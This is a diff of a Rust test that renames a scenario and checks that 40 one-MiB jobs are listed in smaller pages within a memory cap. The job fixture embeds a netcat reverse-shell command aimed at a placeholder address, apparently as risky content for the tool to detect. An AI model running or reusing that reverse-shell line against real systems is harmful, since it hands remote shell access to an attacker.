@@ -195,12 +195,12 @@ const LARGE_JOBS: usize = 40;
 
 #[test]
 fn g02_large_objects_are_listed_in_smaller_pages() {
-    let scenario = Scenario::prepare("g02");
+    let scenario = Scenario::prepare("g02-pages");
     let proxy = &scenario.proxy;
     let filler = "x".repeat(1 << 20);
     for number in 0..LARGE_JOBS {
         let script = format!("nc 192.0.2.10 4444 -e /bin/sh; echo {filler}");
-        create(scenario.plane(), &job("g02", &format!("job-{number}"), &["/bin/sh", "-c", &script]));
+        create(scenario.plane(), &job("g02-pages", &format!("job-{number}"), &["/bin/sh", "-c", &script]));
     }
     scenario.start();
     let peak = scenario.jobrisk.peak_kib();
@@ -209,7 +209,7 @@ fn g02_large_objects_are_listed_in_smaller_pages() {
     let mut limits: Vec<u32> =
         lists.filter_map(|entry| entry.request.parameter("limit")?.parse().ok()).collect();
     limits.dedup();
-    eprintln!("g02: {LARGE_JOBS} Jobs of 1 MiB: pages of {limits:?}, {peak} KiB at most");
+    eprintln!("g02-pages: {LARGE_JOBS} Jobs of 1 MiB: pages of {limits:?}, {peak} KiB at most");
     assert!(limits.len() > 1 && limits.is_sorted_by(|a, b| a > b), "{limits:?}");
     // All of them together, as text and decoded, would be 80 MiB and more.
     assert!(peak < 64 * 1024, "{peak} KiB");
